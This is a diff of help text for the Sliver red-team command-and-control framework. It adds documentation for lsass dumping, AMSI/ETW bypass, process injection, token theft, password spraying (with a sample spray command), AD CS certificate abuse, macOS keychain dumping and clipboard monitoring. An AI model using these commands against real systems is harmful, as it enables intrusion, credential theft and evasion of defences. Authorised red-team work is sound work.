+prompt shows which server is active. Sessions, beacons, jobs, tunnels, etc. all belong to the server they were started
+on. Switching servers restores the session or beacon you were using on that server.
+
+Events from the other servers (new sessions, lost sessions, stopped jobs, ...) are still shown, prefixed with the name
+of the server. Reactions only run for events from the active server.
+`
+
+	serversConnectHelp = `[[.Bold]]Command:[[.Normal]] servers connect [config]
+[[.Bold]]About:[[.Normal]] Connect to another team server and make it the active server.
+[[.Bold]]Examples:[[.Normal]]
+
+	servers connect                           # Select an imported config
+	servers connect ./moloch_example.com.cfg  # Connect with a config that has not been imported
+	servers connect --background              # Stay on the active server
+`
+
+	serversUseHelp = `[[.Bold]]Command:[[.Normal]] servers use <name>
+[[.Bold]]About:[[.Normal]] Switch the team server commands are sent to.
+`
+
+	serversDisconnectHelp = `[[.Bold]]Command:[[.Normal]] servers disconnect <name>
+[[.Bold]]About:[[.Normal]] Disconnect from a team server, switch to another server first to disconnect from the active server.
+`
+
+	pivotsNamedPipeHelp = `[[.Bold]]Command:[[.Normal]] pivots named-pipe
+[[.Bold]]About:[[.Normal]] Start a named pipe pivot listener on the current session (Windows only). Any number of
+implants may connect to the same pipe at once, each connection is handled independently.
+
+If --bind is not set the pipe is given a random name, picked from a list of pipe names that are commonly found
+on Windows hosts or from your own --wordlist (one name per line). A random suffix is always appended to the name.
+
+With --key the listener is given its own key, every message on the pipe is encrypted with this key and peers
+that do not know it are dropped before the key exchange. Pass the printed connection string to 'generate
+--named-pipe' so the implant includes the key.
+
+[[.Bold]]Examples:[[.Normal]]
+
+Start a listener with a random name that any user can connect to:
+
+	pivots named-pipe --allow-all
+
+Start a listener with its own key:
+
+	pivots named-pipe --bind foobar --key
+
+`
+
+	pivotsAllowHelp = `[[.Bold]]Command:[[.Normal]] pivots allow
+[[.Bold]]About:[[.Normal]] Manage the implants allowed to connect to a pivot listener. By default any implant generated
+by this server can connect, once the allowlist has entries only implants built with one of the listed public keys
+complete the key exchange. Implants are referred to by their build name (see 'implants').
+
+Changes only affect new connections. Rejected connections are logged by the pivot and listed in 'pivots details'.
+Without any flags the current allowlist is shown.
+
+[[.Bold]]Examples:[[.Normal]]
+
+Only allow two implant builds to connect to a new tcp pivot:
+
+	pivots tcp --allow FUNNY_NAME,OTHER_NAME
+
+Add or remove builds on a running listener:
+
+	pivots allow --id 1 --add ANOTHER_NAME
+	pivots allow --id 1 --remove FUNNY_NAME
+
+Allow any implant again:
+
+	pivots allow --id 1 --clear
+
+`
+
+	pivotsGraphHelp = `[[.Bold]]Command:[[.Normal]] pivots graph
+[[.Bold]]About:[[.Normal]] Show how every session is connected to the server. Sessions connected to the server directly are
+at the top level, the implants pivoting through them are drawn below them with the type of pivot they connect through.
+
+Every implant in the graph is pinged, the first latency is the hop from its parent and the second is the round trip from
+the server. Implants that don't respond within a few seconds are marked.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	pivots graph
+	pivots graph --json
+
+`
+
+	hostsSurveyHelp = `[[.Bold]]Command:[[.Normal]] hosts survey [--software]
+[[.Bold]]About:[[.Normal]] Show the last survey of a host, surveys are taken with the [[.Bold]]survey[[.Normal]] command.`
+
+	hostsServicesHelp = `[[.Bold]]Command:[[.Normal]] hosts services
+[[.Bold]]About:[[.Normal]] Show the services found on a host.
+
+Hosts and services are added when an extension or alias with a 'parser' in its manifest is run, the server parses
+the output (e.g. nmap's grepable output) and adds the hosts it finds, or adds the services to hosts it already knows
+about. Credentials found by a parser are added to the loot store.
+`
+
+	hostsTagHelp = `[[.Bold]]Command:[[.Normal]] hosts tag [--host <id>] [--remove] <tags...>
+[[.Bold]]About:[[.Normal]] Add or remove tags from a host, tags are lowercase letters, numbers, '.', '_' and '-'. Tags are
+saved with the host so they apply to every session and beacon on it, 'playbooks run --tag' runs a playbook against
+every host with a tag.
+
+	hosts tag dc prod
+	hosts tag --host 1f2e --remove prod
+`
+
+	warmupHelp = `[[.Bold]]Command:[[.Normal]] warmup <options>
+[[.Bold]]About:[[.Normal]] Send benign traffic to engagement infrastructure so new domains have some history before implants use them.
+[[.Bold]]Examples:[[.Normal]] 
+
+The following command requests pages from the decoy site and looks up the domain about 30 times an hour during
+business hours (server time) for the next three days:
+
+warmup --url https://example.com/,https://example.com/about --dns example.com,www.example.com --rate 30 --hours 8-18 --duration 72h
+
+Requests are sent at random intervals with browser user agents, url and dns targets are picked at random. Use --resolver
+to send the dns lookups to a specific resolver instead of the system's. The warmup runs as a job, use 'jobs --kill' to stop it.
 `
 
 	newProfileHelp = `[[.Bold]]Command:[[.Normal]] new <options> <profile name>
@@ -238,6 +757,30 @@ settings. Generated implants will still have per-binary certificates/obfuscation
 [[.Bold]]About:[[.Normal]] Ping session by name or the active session. This does NOT send an ICMP packet, it just sends a small 
 C2 message round trip to ensure the remote implant is still responding to commands.`
 
+	presenceHelp = `[[.Bold]]Command:[[.Normal]] presence
+[[.Bold]]About:[[.Normal]] Report whether a user is at the remote system before doing anything a user could notice.
+
+Reports the input idle time, whether the workstation is locked or the screensaver is running, and the interactive
+sessions on the system including remote desktop sessions and the client they're connected from.
+
+Use '--checkin on' to have a beacon report its presence with every check-in, the last report is shown by 'info'.
+
+On Linux and macOS the idle time is based on the last input to each user's terminal, and the locked/screensaver state
+is not reported.
+`
+
+	surveyHelp = `[[.Bold]]Command:[[.Normal]] survey [--software]
+[[.Bold]]About:[[.Normal]] Survey the remote system in one task and save the survey to its host.
+
+The survey collects the OS version and build, installed patches (servicing packages on Windows, software updates
+on macOS), installed software (uninstall keys, dpkg/apk, app bundles and Homebrew), local administrators, domain
+membership, network interfaces, logged on users, security products identified from the running processes, and
+interesting paths that exist on the host (unattend files, credential files, sockets, shell history) with whether
+the implant can read or write them.
+
+Each part is best effort, parts that fail are listed at the end of the report. The last survey of each host is
+kept in the database, see [[.Bold]]hosts survey[[.Normal]].`
+
 	killHelp = `[[.Bold]]Command:[[.Normal]] kill <implant name/session>
 [[.Bold]]About:[[.Normal]] Kill a remote implant process (does not delete file).`
 
@@ -303,14 +846,45 @@ Downloads can be filtered using the following patterns:
 		^[r-u] will match all characters except r, s, t, and u.
 
 If you need to match a special character (*, ?, '-', '[', ']', '\\'), place '\\' in front of it (example: \\?).
-On Windows, escaping is disabled. Instead, '\\' is treated as path separator.`
+On Windows, escaping is disabled. Instead, '\\' is treated as path separator.
+
+[[.Bold]][[.Underline]]Chunked Downloads[[.Normal]]
+Use --chunked to download a large file in ranged requests. Each chunk is checked against a sha256 hash computed
+by the implant, and the file is written to '<local dst>.part' until it's complete. If the transfer is interrupted
+run the same command again and it resumes from the last chunk in the .part file. Lost sessions are waited on
+(--wait) and the transfer continues on the reconnected session. Chunks are gzip compressed over slow transports
+(dns, http, udp) and sent as-is over mtls and wireguard, use --compress to override this. zstd isn't available
+yet, the encoder is negotiated per chunk so it can be added without breaking older implants. Directories cannot
+be downloaded in chunks.`
 
 	uploadHelp = `[[.Bold]]Command:[[.Normal]] upload [local src] <remote dst>
-[[.Bold]]About:[[.Normal]] Upload a file to the remote system.`
+[[.Bold]]About:[[.Normal]] Upload a file to the remote system.
+
+Files larger than 1 MiB are split into content addressed chunks that the server caches, so uploading the same
+file to more hosts only sends each chunk to the server once. Cached chunks are kept in the server's uploads
+storage.
+
+Use --chunked to upload a large file in resumable chunks instead, each chunk is written to the remote file as
+it arrives and checked against its sha256 hash. Running the same command again after an interruption resumes
+from the last chunk that matches the local file. See 'help download' for the --chunk-size, --compress and
+--wait flags.`
 
 	procdumpHelp = `[[.Bold]]Command:[[.Normal]] procdump [pid]
 [[.Bold]]About:[[.Normal]] Dumps the process memory given a process identifier (pid)`
 
+	lsassDumpHelp = `[[.Bold]]Command:[[.Normal]] lsass-dump [--technique duplicate|open] [--clone]
+[[.Bold]]About:[[.Normal]] (Windows Only) Minidump lsass and save it directly in the loot store, tagged with the host.
+
+[[.Bold]][[.Underline]]++ Techniques ++[[.Normal]]
+By default (duplicate) the implant never opens lsass itself, instead it looks for an existing handle to lsass
+held by another process and duplicates it. Use --technique open to call OpenProcess on lsass directly.
+With --clone the dump is taken from a PssCaptureSnapshot clone of lsass rather than the live process.
+
+[[.Bold]][[.Underline]]++ Transfer ++[[.Normal]]
+The dump is never written to the target's disk, it's built in memory one chunk at a time and each chunk
+is encrypted with a one-time key generated by the server for the task. The server decrypts the dump and
+saves it as loot with the origin host's UUID, use [[.Bold]]loot[[.Normal]] to fetch it.`
+
 	runAsHelp = `[[.Bold]]Command:[[.Normal]] runas [--username] [--process] [--args]
 [[.Bold]]About:[[.Normal]] (Windows Only) Run a new process in the context of the designated user`
 
@@ -318,13 +892,42 @@ On Windows, escaping is disabled. Instead, '\\' is treated as path separator.`
 [[.Bold]]About:[[.Normal]] (Windows Only) Steal the token of a logged in user. Sliver commands that run new processes (like [[.Bold]]shell[[.Normal]] or [[.Bold]]execute-command[[.Normal]]) will impersonate this user.`
 
 	revToSelfHelp = `[[.Bold]]Command:[[.Normal]] rev2self
-[[.Bold]]About:[[.Normal]] (Windows Only) Call RevertToSelf, lose the stolen token.`
+[[.Bold]]About:[[.Normal]] (Windows Only) Call RevertToSelf, stop impersonating the current token.
+The token is kept by the implant and can be impersonated again with [[.Bold]]tokens --use[[.Normal]].`
+
+	stealTokenHelp = `[[.Bold]]Command:[[.Normal]] steal-token PID
+[[.Bold]]About:[[.Normal]] (Windows Only) Duplicate the token of a process and impersonate it. Sliver commands that
+run new processes will impersonate the owner of the token, the owner is shown in the prompt until [[.Bold]]rev2self[[.Normal]].`
+
+	tokensHelp = `[[.Bold]]Command:[[.Normal]] tokens [--use ID] [--remove ID]
+[[.Bold]]About:[[.Normal]] (Windows Only) List the tokens made (make-token), stolen (steal-token), or impersonated
+(impersonate) by the implant, the active token is marked with a '*'.
+
+Tokens are kept after a rev2self so they can be impersonated again with --use, --remove closes a token
+(reverting to self first if it's the active token).`
 
 	elevateHelp = `[[.Bold]]Command:[[.Normal]] elevate
 [[.Bold]]About:[[.Normal]] (Windows Only) Spawn a new Sliver session as an elevated process (UAC bypass)`
 
 	executeAssemblyHelp = `[[.Bold]]Command:[[.Normal]] execute-assembly [local path to assembly] [arguments]
 [[.Bold]]About:[[.Normal]] (Windows Only) Executes the .NET assembly in a child process.
+
+[[.Bold]][[.Underline]]++ Hosting Process ++[[.Normal]]
+Unless --in-process is used, the hosting process can be started with a spoofed parent (--ppid) and with
+the mitigation policy that blocks dlls not signed by Microsoft (--blockdlls), the same flags are supported
+by the execute command.
+
+[[.Bold]][[.Underline]]++ AMSI and ETW ++[[.Normal]]
+--amsi-bypass and --etw-bypass disable AMSI and ETW in the hosting process before the assembly is injected,
+or in the implant's process before the CLR loads it with --in-process. --bypass-technique selects how:
+	patch - Overwrite the start of the AMSI scan functions and EtwEventWrite so they return (default)
+	hwbp  - Hardware breakpoints on AmsiScanBuffer and EtwEventWrite that return from them in an exception
+	        handler, no code is modified (--in-process on amd64 only, threads started later aren't covered)
+
+The same flags are supported by 'bof run' and extensions. Implants can be built to always bypass both:
+	generate --amsi-bypass --etw-bypass --bypass-technique hwbp
+
+[[.Bold]]Important:[[.Normal]] Patches in the implant's process stay in place after the task.
 `
 
 	executeShellcodeHelp = `[[.Bold]]Command:[[.Normal]] execute-shellcode [local path to raw shellcode]
@@ -333,10 +936,25 @@ On Windows, escaping is disabled. Instead, '\\' is treated as path separator.`
 [[.Bold]][[.Underline]]++ Shellcode ++[[.Normal]]
 Shellcode files should be binary encoded, you can generate Sliver shellcode files with the generate command:
 	generate --format shellcode
+
+Shellcode artifacts saved on the server (see 'artifacts convert') can be executed with --artifact:
+	execute-shellcode --artifact seatbelt
+
+[[.Bold]][[.Underline]]++ Injection ++[[.Normal]]
+On Windows the --injection flag selects how shellcode is run in a remote process, the same flag is
+supported by migrate, execute-assembly, sideload, spawndll and inline-execute:
+	crt    - CreateRemoteThread (default)
+	apc    - QueueUserAPC, spawned processes run the payload before their entry point (early bird)
+	hijack - Redirect an existing thread to the payload
+	stomp  - Load a dll (--stomp-module) and overwrite its code, so the payload runs from image backed memory
+
+The default for an implant can be set when generating it:
+	generate --injection apc
 `
 
 	migrateHelp = `[[.Bold]]Command:[[.Normal]] migrate <pid>
-[[.Bold]]About:[[.Normal]] (Windows Only) Migrates into the process designated by <pid>.`
+[[.Bold]]About:[[.Normal]] (Windows Only) Migrates into the process designated by <pid>.
+Use --injection to choose the injection technique (see: help execute-shellcode).`
 
 	websitesHelp = `[[.Bold]]Command:[[.Normal]] websites <options> <operation>
 [[.Bold]]About:[[.Normal]] Add content to HTTP(S) C2 websites to make them look more legit.
@@ -361,6 +979,92 @@ Delete content from a website:
 	websites rm-content --website blog --web-path /index.html
 	websites rm-content --website blog --web-path /public --recursive
 
+`
+	opsecHelp = `[[.Bold]]Command:[[.Normal]] opsec [command]
+[[.Bold]]About:[[.Normal]] List the OPSEC considerations of commands.
+
+Commands that are likely to get noticed on the target are annotated with a risk level (low, medium, or high),
+the artifacts they leave behind, any network traffic on top of the implant's C2, and the EDR relevant APIs
+they use. The notes are also shown at the end of 'help <command>', and before the OPSEC confirmation prompt
+(see 'settings autoadult').
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+List all annotated commands:
+	opsec
+
+Show the notes for a command:
+	opsec execute-assembly
+
+[[.Bold]][[.Underline]]++ Dry Runs ++[[.Normal]]
+Loud or destructive commands (e.g. execute-assembly, migrate, psexec, rm) support [[.Bold]]--dry-run[[.Normal]], which shows
+the request the command would send to the implant, with paths, the spawned process, and the injection technique
+resolved, followed by the command's OPSEC notes. Nothing is sent to the implant or queued for a beacon:
+	execute-assembly --dry-run -p svchost.exe --injection apc Seatbelt.exe -group=all
+`
+	tasksHelp = `[[.Bold]]Command:[[.Normal]] tasks <options>
+[[.Bold]]About:[[.Normal]] Beacon task management.
+
+Every task has a timeout, by default 5m, or 30m for long running tasks such as execute, execute-assembly,
+sideload, spawndll, migrate, procdump, screenshot, download, and upload. Use a command's --timeout flag to
+override it, a negative value disables the timeout. A task that hasn't finished on target when its timeout
+expires is abandoned by the implant, commands that wait on a process (e.g. 'execute -o') kill the process.
+If the beacon doesn't report back within the timeout plus its interval and jitter the server marks the
+task as 'timeout' so it no longer shows up as pending.
+
+Pending tasks are sent in queue order, use 'tasks reorder' to change it and 'tasks cancel' to remove a task.
+`
+	tasksCancelHelp = `[[.Bold]]Command:[[.Normal]] tasks cancel [id]
+[[.Bold]]About:[[.Normal]] Cancel a beacon task.
+
+A pending task is canceled right away and is never sent to the beacon. A task that was already sent is
+marked as 'canceled' and the beacon is told to stop it on its next check in, the task's result will be a
+canceled error unless it finished before then. Commands that wait on a process (e.g. 'execute -o') kill
+the process. If no id is given you'll be prompted to select a pending or sent task.
+`
+	tasksReorderHelp = `[[.Bold]]Command:[[.Normal]] tasks reorder [id] <options>
+[[.Bold]]About:[[.Normal]] Move a pending beacon task within the beacon's queue.
+
+Pending tasks are sent to the beacon in queue order on its next check in, by default the task is moved to
+the front of the queue. Tasks queued afterwards are sent after any tasks that have been reordered.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	tasks reorder 2cf4b1a3
+	tasks reorder --position 3 2cf4b1a3
+	tasks reorder --last 2cf4b1a3
+`
+	c2ProfilesHelp = `[[.Bold]]Command:[[.Normal]] c2profiles <operation>
+[[.Bold]]About:[[.Normal]] Manage named HTTP(S) C2 profiles.
+
+An HTTP(S) C2 profile controls what implant traffic looks like on the wire: the URI paths, file names and
+extensions, url parameters, request headers, user agent, server headers and cookies, and an optional prefix
+and suffix wrapped around every response body. The 'default' profile is the server's http-c2.json, any other
+profile is stored in the server's configs/http-c2 directory.
+
+Implants are built against a profile with --c2profile, and listeners are started with a matching --c2profile:
+	generate --http example.com --c2profile jquery
+	https --c2profile jquery
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+List profiles:
+	c2profiles
+
+Export the default profile to use as a starting point:
+	c2profiles export --name default ./jquery.json
+
+Import a profile:
+	c2profiles import --name jquery ./jquery.json
+`
+	c2ProfilesImportHelp = `[[.Bold]]Command:[[.Normal]] c2profiles import --name <name> <file>
+[[.Bold]]About:[[.Normal]] Import a HTTP(S) C2 profile from a json file.
+
+The file uses the same format as the server's http-c2.json, with two optional implant config fields:
+	"response_prefix" - string prepended to every response body (e.g. a javascript comment)
+	"response_suffix" - string appended to every response body
+
+Profiles are validated before they're saved, and importing a profile with an existing name replaces it.
+Listeners and implants only load a profile when they start or are generated, so restart any listeners
+using the profile after changing it. Importing a profile named 'default' overwrites http-c2.json.
 `
 	sideloadHelp = `[[.Bold]]Command:[[.Normal]] sideload <options> <filepath to DLL>
 [[.Bold]]About:[[.Normal]] Load and execute a shared library in memory in a remote process.
@@ -380,6 +1084,52 @@ This is not required on Windows since the payload is injected as a new remote th
 killing the hosting process.
 
 Parameters to the Linux and MacOS shared module are passed using the [[.Bold]]LD_PARAMS[[.Normal]] environment variable.
+`
+	inlineExecuteHelp = `[[.Bold]]Command:[[.Normal]] inline-execute <options> <filepath> [arguments]
+[[.Bold]]About:[[.Normal]] Execute an unmanaged PE (Windows) or ELF (Linux) from memory and capture its output and exit code.
+[[.Bold]]Example usage:[[.Normal]]
+
+Run a Windows executable in a sacrificial process, killing it after 60 seconds:
+	inline-execute -E 60 /tmp/tool.exe --arg value
+Run a Windows executable in a new thread of the implant process:
+	inline-execute --in-process /tmp/tool.exe --arg value
+Run a Linux ELF from a memfd, using "[kworker/0:1]" as argv[0]:
+	inline-execute -p "[kworker/0:1]" /tmp/tool --arg value
+
+[[.Bold]]Remarks:[[.Normal]]
+Windows executables are converted to shellcode with Donut, the exit code is the exit code of the thread running the PE.
+In-process execution redirects the implant's standard handles while the PE runs, only one inline execution can run at a time.
+A PE that crashes or calls exit() in-process will kill the implant.
+Linux ELFs are written to an anonymous memfd and executed from it, they can't be run in-process.
+`
+	validateCredsHelp = `[[.Bold]]Command:[[.Normal]] validate-creds --target <host> <options>
+[[.Bold]]About:[[.Normal]] Test user/password loot against network services from the active implant.
+
+Each credential is tried against each protocol in turn, with a delay between attempts. Results are saved back to
+the loot store with each credential, with their status and when they were tested, see 'loot -f creds'.
+
+[[.Bold]]Protocols:[[.Normal]]
+	smb       NTLM session setup on 445/tcp
+	ldap      Simple bind on 389/tcp (ldaps: 636/tcp)
+	winrm     NTLM authentication on 5985/tcp (winrms: 5986/tcp), users without WinRM access are reported invalid
+	kerberos  TGT request with pre-authentication on 88/tcp, the target must be a KDC
+
+[[.Bold]]Statuses:[[.Normal]]
+	valid, invalid, locked, disabled, skipped, error
+	expired and restricted (logon hours or workstation) credentials have the right password
+
+[[.Bold]]Lockouts:[[.Normal]]
+Failed attempts are counted per user, attempts stop one short of --lockout-threshold. Failures saved in the loot store
+in the last --lockout-window seconds count against the threshold, failed spray attempts are not saved. If an account
+we failed to login as is locked out the run is aborted.
+
+[[.Bold]]Example usage:[[.Normal]]
+
+Test all user/password loot against a domain controller over SMB and LDAP:
+	validate-creds -T 10.0.0.10 -p smb,ldap -d corp.local -l 5
+
+Spray a password against a list of users, one attempt every 30 to 60 seconds:
+	validate-creds -T dc01.corp.local -p kerberos -d corp.local -S 'Summer2023!' -U users.txt -D 30000 -j 30000 -l 5
 `
 	spawnDllHelp = `[[.Bold]]Command:[[.Normal]] spawndll <options> <filepath to DLL> [entrypoint arguments]
 [[.Bold]]About:[[.Normal]] Load and execute a Reflective DLL in memory in a remote process.
@@ -392,8 +1142,155 @@ Parameters to the Linux and MacOS shared module are passed using the [[.Bold]]LD
 [[.Bold]]About:[[.Normal]] Kills a remote process designated by PID
 `
 
-	screenshotHelp = `[[.Bold]]Command:[[.Normal]] screenshot
+	searchHelp = `[[.Bold]]Command:[[.Normal]] search [path] <options>
+[[.Bold]]About:[[.Normal]] Search the remote file system for files by name, size, modification time, and contents.
+
+The search runs on the target so only the matches are sent back, sessions stream matches as they are
+found and beacons return them when the task is done. Names are matched with --name (a glob) and/or
+--regex, contents with --content (a regular expression), the matching lines are shown with their line
+numbers. Binary files and files larger than --max-file-size aren't content searched by default.
+
+The search stops after --max-results matches or when the command times out, use --timeout for large
+trees. Use --exclude to skip directories such as node_modules or /proc.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	search /home --name *.kdbx
+	search C:\\Users --regex "(?i)\\.(config|ini|xml)$" --content password --ignore-case
+	search /var/www --content "DB_PASS" --exclude node_modules,.git --newer 168h
+	search /tmp --min-size 100M --depth 2
+`
+	screenshotHelp = `[[.Bold]]Command:[[.Normal]] screenshot <options>
 [[.Bold]]About:[[.Normal]] Take a screenshot from the remote implant.
+
+All displays are captured into a single image by default, use --list to see the displays and their
+positions, --display to capture only one of them or --split to get one image per display. Use
+--format jpeg and a lower --quality to keep screenshots small over slow transports such as DNS.
+
+--watch takes a screenshot every interval until you hit ctrl-c (interactive sessions only), with --save
+the screenshots are written to that directory.
+
+On macOS executables use screencapture(1), without the Screen Recording permission only the desktop
+background is captured. Shared libraries use the screen capture apis directly.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	screenshot --list
+	screenshot --split
+	screenshot --format jpeg --quality 40
+	screenshot --watch 60s --save ./screenshots
+`
+	clipboardHelp = `[[.Bold]]Command:[[.Normal]] clipboard [get] <options>
+[[.Bold]]About:[[.Normal]] Read the current contents of the clipboard (Windows, macOS and Linux).
+
+Text is preferred when the clipboard holds more than one format. On Windows, bitmaps are returned as a .bmp
+file and on Linux the first image format is read, binary contents aren't printed so save them with --loot.
+Contents larger than --max-size (1 MiB by default) are truncated.
+
+The clipboard belongs to the user's GUI session, implants running as a service or daemon outside of it
+will read an empty clipboard or fail. On macOS only text is read (pbpaste), on Linux wl-paste, xclip or
+xsel must be installed.
+`
+	clipboardMonitorHelp = `[[.Bold]]Command:[[.Normal]] clipboard monitor <options>
+[[.Bold]]About:[[.Normal]] Record each change to the clipboard for a period of time.
+
+The implant polls the clipboard every --interval until the --duration is up and returns the timestamped
+entries in a single response, the contents when monitoring starts aren't recorded. Entries are saved as
+loot on the server (as ".txt" files or in their image format) unless --no-loot is set, this also happens
+when a beacon's result comes back while no operator is connected.
+
+Each entry is truncated to --max-size and the implant stops recording once 16 MiB have been captured.
+
+[[.Bold]]Examples:[[.Normal]]
+	clipboard monitor --duration 10m
+	clipboard monitor -d 1h -i 5s --name "finance workstation"
+`
+	macosHelp = `[[.Bold]]Command:[[.Normal]] macos <command>
+[[.Bold]]About:[[.Normal]] macOS post-exploitation, see the help of each sub-command.
+
+Commands run the system's own tools (sqlite3, security, launchctl, plutil, profiles) as child processes
+of the implant, what they can access depends on the user the implant runs as and its TCC permissions.
+`
+	macosTCCHelp = `[[.Bold]]Command:[[.Normal]] macos tcc <options>
+[[.Bold]]About:[[.Normal]] Survey the TCC (privacy) permissions granted to applications.
+
+The user and system TCC databases are read, the system database is only readable with Full Disk Access
+so being able to read it tells you the implant has it. On recent versions of macOS the user database
+is protected in the same way.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	macos tcc
+	macos tcc --service ScreenCapture
+`
+	macosKeychainHelp = `[[.Bold]]Command:[[.Normal]] macos keychain <options>
+[[.Bold]]About:[[.Normal]] Enumerate keychain items, and dump their secrets.
+
+Enumerating items only reads their attributes and doesn't prompt the user. Dumping a secret requires the
+implant to run as the keychain's user with the keychain unlocked, and any item whose access control list
+doesn't trust the security tool shows the user a prompt, so --dump requires a --service filter.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	macos keychain
+	macos keychain --service "Chrome Safe Storage" --dump --loot
+	macos keychain --keychain /Library/Keychains/System.keychain
+`
+	macosLaunchdHelp = `[[.Bold]]Command:[[.Normal]] macos launchd <options>
+[[.Bold]]About:[[.Normal]] List launchd agents and daemons.
+
+Lists the jobs defined in ~/Library/LaunchAgents, /Library/LaunchAgents and /Library/LaunchDaemons,
+with the PID and last exit status of the jobs loaded in the implant's domain. Use --system to include
+the jobs that ship with macOS.
+`
+	macosProfilesHelp = `[[.Bold]]Command:[[.Normal]] macos profiles
+[[.Bold]]About:[[.Normal]] List installed configuration profiles.
+
+Configuration profiles show how the host is managed (MDM enrollment, certificates, restrictions,
+TCC policies). Device level profiles are only listed when the implant runs as root.
+`
+	adcsHelp = `[[.Bold]]Command:[[.Normal]] adcs <command>
+[[.Bold]]About:[[.Normal]] Active Directory certificate services (AD CS) abuse, see the help of each sub-command.
+
+Commands run as the implant's user, or the token set with impersonate/make-token. Issued certificates
+are saved as credential loot with their private key, for authenticating with PKINIT or schannel later.
+`
+	adcsEnumHelp = `[[.Bold]]Command:[[.Normal]] adcs enum <options>
+[[.Bold]]About:[[.Normal]] Enumerate certificate authorities and templates, and find misconfigurations.
+
+The enrollment services and certificate templates are read from the configuration partition over ldap,
+and each CA's EditFlags and security descriptor from its remote registry. Rights are checked for the
+groups of the implant's token plus Everyone, Authenticated Users, Domain Users and Domain Computers.
+
+	ESC1 - Enrollee supplies the subject of a template that allows domain authentication
+	ESC2 - Any purpose, or no, extended key usage
+	ESC3 - Certificate request agent extended key usage
+	ESC4 - Write access to the template
+	ESC6 - The CA accepts subject alternative names in request attributes (EDITF_ATTRIBUTESUBJECTALTNAME2)
+	ESC7 - ManageCA or ManageCertificates rights on the CA
+	ESC8 - Web enrollment accepts NTLM over plain http
+
+ESC1-3 are only reported for published templates that don't require manager approval or authorized
+signatures. ESC5 (access to the PKI objects themselves) is not checked, and deny entries are ignored
+so access may be overstated.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	adcs enum
+	adcs enum --vulnerable --server dc01.corp.local
+`
+	adcsRequestHelp = `[[.Bold]]Command:[[.Normal]] adcs request <options>
+[[.Bold]]About:[[.Normal]] Request a certificate from a CA's web enrollment (certsrv).
+
+The key pair and CSR are generated by the client, the implant only submits the CSR with its own
+credentials. The --upn and --dns names are added to the CSR for templates where the enrollee
+supplies the subject (ESC1), and as request attributes for CAs vulnerable to ESC6.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	adcs request --ca ca.corp.local --template User
+	adcs request --ca ca.corp.local --template VulnTemplate --upn administrator@corp.local
+	adcs request --ca ca.corp.local --template Machine --dns dc01.corp.local --save dc01.pem
 `
 	loadAliasHelp = `[[.Bold]]Command:[[.Normal]] load-macro <directory path> 
 [[.Bold]]About:[[.Normal]] Load a Sliver macro to add new commands.
@@ -481,6 +1378,9 @@ LOGON_SERVICE
 LOGON_UNLOCK
 LOGON_NETWORK_CLEARTEXT
 LOGON_NEW_CREDENTIALS
+
+LOGON_NEW_CREDENTIALS tokens are "netonly", the credentials are only used for network access and local actions
+still run as the current user. The token is kept by the implant, see [[.Bold]]tokens[[.Normal]].
 `
 
 	getEnvHelp = `[[.Bold]]Command:[[.Normal]] getenv [name]
@@ -522,6 +1422,38 @@ When using the binary type, you must either:
 [[.Bold]]Example:[[.Normal]] registry delete --hive HKLM "software\\google\\chrome\\BLBeacon\\version"
 	`
 
+	regListSubKeysHelp = `[[.Bold]]Command:[[.Normal]] registry list-subkeys [--recursive [--depth <n>]] PATH
+[[.Bold]]About:[[.Normal]] List the sub keys of a registry key, with --recursive every key below it is listed relative to PATH.
+Keys that can't be opened (e.g. access denied) are skipped.
+[[.Bold]]Example:[[.Normal]] registry list-subkeys --hive HKLM --recursive --depth 2 "software\\microsoft\\windows\\currentversion"
+	`
+
+	regExportHelp = `[[.Bold]]Command:[[.Normal]] registry export [--save <path>] [PATH]
+[[.Bold]]About:[[.Normal]] Export a registry key and every key and value below it to a .reg file, the whole hive is exported
+if PATH is not set. The file is added to the loot store and is in regedit's format (utf-16) so it can be imported with
+'reg import'. Exporting a whole hive can take a while, use --timeout to give the implant more time.
+[[.Bold]]Examples:[[.Normal]]
+
+	registry export --hive HKLM "software\\microsoft\\windows\\currentversion\\run"
+	registry export --hive HKCU --save ./hkcu.reg --timeout 600
+	`
+
+	regSearchHelp = `[[.Bold]]Command:[[.Normal]] registry search [--key <regexp>] [--value <regexp>] [--data <regexp>] [PATH]
+[[.Bold]]About:[[.Normal]] Search the keys below PATH (the whole hive if not set) on the implant, patterns are case insensitive
+regular expressions. --key is matched against the path of each key, --value against value names and --data against
+the value's data the way regedit shows it (dwords as "0x00000001 (1)", binary data as hex). With only --key the matching
+keys are listed, otherwise each key is listed with the values that matched.
+[[.Bold]]Examples:[[.Normal]]
+
+Find autostart entries that point to temp directories:
+
+	registry search --hive HKLM --key "currentversion\\\\run$" --data "\\\\temp\\\\"
+
+Find services running from user writable paths:
+
+	registry search --hive HKLM --value "^imagepath$" --data "users|programdata" "system\\currentcontrolset\\services"
+	`
+
 	pivotsHelp = `[[.Bold]]Command:[[.Normal]] pivots
 [[.Bold]]About:[[.Normal]] List pivots for the current session. NOTE: pivots are only supported on sessions, not beacons.
 [[.Bold]]Examples:[[.Normal]]
@@ -534,7 +1466,285 @@ Start a tcp pivot on the current session:
 
 	pivots tcp --bind 0.0.0.0
 
+Only allow specific implant builds to connect to a tcp pivot:
+
+	pivots tcp --allow FUNNY_NAME
+
+`
+	socks5Help = `[[.Bold]]Command:[[.Normal]] socks5
+[[.Bold]]About:[[.Normal]] In-band SOCKS5 proxy through the session's C2 connection.
+
+Both CONNECT and UDP ASSOCIATE are supported. UDP datagrams are relayed by the client on the same address as the
+socks listener and encapsulated in the session's C2, the implant sends them from a local udp socket. Only the host
+that requested an association can use it, and it lasts until the host closes the TCP connection that requested it.
+Fragmented datagrams are dropped.
+[[.Bold]]Examples:[[.Normal]]
+Start a new proxy:
+
+	socks5 start
+
+Specify the bind address, UDP ASSOCIATE relays use the same host:
+
+	socks5 start --host 127.0.0.1 --port 1081
+
+List existing proxies:
+
+	socks5
+
+Stop and remove an existing proxy:
+
+	socks5 stop --id 1
+`
+	rportfwdHelp = `[[.Bold]]Command:[[.Normal]] rportfwd
